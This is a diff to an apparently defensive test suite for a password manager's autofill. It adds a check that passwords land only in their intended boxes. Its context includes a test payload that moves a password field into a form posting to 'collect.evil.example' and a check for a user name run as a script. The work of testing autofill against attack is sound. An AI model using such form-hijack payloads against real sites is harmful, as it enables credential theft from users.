@@ -1,7 +1,7 @@
 // Owns the attacks by what a page is made of: clobbered names and tampered prototypes (A10), synthetic events (A11), boxes that
 // take more than asked (A13), and names that are markup (A19).
 import { CHANGE_FORM, change, type Must, type Row, SIGN_IN_FORM, signIn } from '../row';
-import { pause } from '../scene';
+import { pause, type Scene } from '../scene';
 import { MARKUP } from '../vault-of-canaries';
 
 const NAMES = [
@@ -170,6 +170,24 @@ const SWAPS = {
     "const f = document.createElement('form'); f.action = 'https://collect.evil.example/'; document.body.append(f); f.append(document.getElementById('fresh'))",
 } as const;
 
+/** A box that is there in the moment of the write may be filled for what it is then, whatever stood there before. */
+const SWAPPED: Must = {
+  end: 'either',
+  boxes: ['old', 'fresh', 'again', 'swapped'],
+  reasons: ['box-uncertain', 'box-changed', 'box-hidden', 'no-box', 'value-changed', 'action-changed'],
+};
+
+/** The old password is nowhere but in the box for it, and the new one nowhere but in those for it. */
+async function eachInItsBox({ page, canary }: Scene): Promise<string[]> {
+  const held = await page.evaluate(
+    () => [...document.querySelectorAll('input')].map(({ id, value }) => [id, value] as const),
+    [],
+  );
+  return held
+    .filter(([id, value]) => value !== '' && (id === 'old') !== (value === canary.password))
+    .map(([id]) => `the box "${id}" holds the password of another`);
+}
+
 export const STEALING: readonly Row[] = [
   ...TRAPS.map((how, at) => ({
     ...change('A13', `a trap beside the boxes: ${how}`, { form: inForm(hidden(how)) }, THREE),
@@ -188,7 +206,8 @@ export const STEALING: readonly Row[] = [
     { end: 'refused', reasons: ['box-uncertain', 'no-box'] },
   ),
   ...Object.entries(SWAPS).map(([name, code]) => ({
-    ...change('A13', name, {}, name.includes('places') ? ({ ...THREE, boxes: [] } as Must) : THREE),
+    ...change('A13', name, {}, SWAPPED),
+    after: eachInItsBox,
     before: ({ page }: Parameters<NonNullable<Row['before']>>[0]) =>
       page.evaluate(
         (text) => {
@@ -206,7 +225,8 @@ export const NAMED: readonly Row[] = [
     wish: 'nothing',
     after: async ({ driver }) => {
       const vault = await driver.openVault();
-      await vault.waitFor({ css: 'a', text: 'shopper-89' });
+      // The list draws the rows in sight alone; these are the newest.
+      await vault.waitFor({ css: 'a', text: MARKUP[0] });
       const found = await vault.evaluate(
         (names) => [
           ...('pwned' in globalThis ? ['a user name was run as a script'] : []),
